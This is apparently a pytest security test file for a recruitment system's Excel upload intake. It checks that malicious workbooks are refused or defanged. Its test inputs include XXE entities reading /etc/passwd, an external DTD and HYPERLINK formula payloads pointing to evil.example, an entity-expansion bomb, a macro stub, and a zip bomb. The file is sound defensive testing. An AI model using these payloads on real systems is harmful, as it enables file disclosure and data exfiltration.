"""Uploads that mean harm: entities, macros, formulas, bombs, far too much."""

from __future__ import annotations

import datetime as dt
import io
import tracemalloc
import zipfile

import openpyxl
import pytest

from recruit.intake import SheetKind, UnreadableWorkbook
from recruit.intake import preview as read
from recruit.intake.error_workbook import write_error_workbook
from recruit.intake.templates import write_template

HEADERS = ["姓名", "身份证号", "联系电话", "户籍地"]


DATES = (dt.date(2020, 2, 20), dt.date(2020, 3, 10))


def preview(content, *, name):
    return read(content, name=name, dates=DATES)


def workbook(*rows):
    book = openpyxl.Workbook()
    for row in (HEADERS, *rows):
        book.active.append(row)
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def with_member(content, name, data):
    """Return the workbook with a member put in or replaced."""
    changed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(changed, "w") as new:
        for member in old.namelist():
            if member != name:
                new.writestr(member, old.read(member))
        new.writestr(name, data)
    return changed.getvalue()


@pytest.mark.parametrize(
    "declared",
    ['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
     '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
     '<!doctype x SYSTEM "http://evil.example/x.dtd">'],
)  # fmt: skip
@pytest.mark.parametrize(
    "member", ["xl/sharedStrings.xml", "xl/workbook.xml", "docProps/core.xml"]
)
def test_a_workbook_that_declares_entities_is_refused(declared, member):
    content = workbook(["张三", "", "13800000001", "贵州省威宁县"])
    text = f'<?xml version="1.0"?>{declared}<sst><si><t>&e;</t></si></sst>'
    with pytest.raises(UnreadableWorkbook):
        preview(with_member(content, member, text), name="a.xlsx")


def test_macros_are_neither_run_nor_handed_on():
    content = workbook(["张三", "", "错", "贵州省威宁县"])
    staged = preview(with_member(content, "xl/vbaProject.bin", b"\xd0\xcf macro"), name="a.xlsm")
    out = io.BytesIO()
    write_error_workbook(staged, out)
    with zipfile.ZipFile(out) as book:
        assert not [name for name in book.namelist() if "vba" in name.lower()]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t="])
def test_what_looks_like_a_formula_comes_back_as_text(sign):
    evil = f'{sign}HYPERLINK("http://evil.example")'
    book = openpyxl.Workbook()
    book.active.append(HEADERS)
    book.active.append(["x", "", "错", "贵州省威宁县"])
    cell = book.active.cell(row=2, column=1, value=evil)
    cell.data_type = "s"
    content = io.BytesIO()
    book.save(content)
    out = io.BytesIO()
    write_error_workbook(preview(content.getvalue(), name="a.xlsx"), out)
    back = openpyxl.load_workbook(out)
    kinds = {cell.data_type for sheet in back for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def test_a_template_holds_no_formula():
    out = io.BytesIO()
    write_template(SheetKind.CANDIDATES, out)
    back = openpyxl.load_workbook(out)
    kinds = {cell.data_type for sheet in back for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def test_a_bomb_does_not_fill_the_memory():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/workbook.xml", "<workbook/>")
        book.writestr("xl/worksheets/sheet1.xml", b"<c>" * 70_000_000)
    tracemalloc.start()
    with pytest.raises(UnreadableWorkbook):
        preview(bomb.getvalue(), name="a.xlsx")
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 40_000_000


class Endless(io.RawIOBase):
    """A body that goes on for ever, and remembers how much of it was read."""

    read_so_far = 0

    def readable(self):
        return True

    def tell(self):
        return 0

    def seek(self, *_where):
        return 0

    def readinto(self, buffer):
        self.read_so_far += len(buffer)
        buffer[:] = b"x" * len(buffer)
        return len(buffer)


def test_a_gigabyte_is_refused_before_it_is_read(desk_app, password):
    desk_app.config["WTF_CSRF_ENABLED"] = False
    client = desk_app.test_client()
    client.post("/login", data={"username": "zhou", "password": password})
    body = Endless()
    answer = client.post(
        "/imports",
        input_stream=body,
        content_type="multipart/form-data; boundary=x",
        environ_overrides={"CONTENT_LENGTH": str(1 << 30)},
    )
    desk_app.config["WTF_CSRF_ENABLED"] = True
    assert answer.status_code == 413
    assert "32 MB" in answer.text
    assert body.read_so_far < 1 << 20
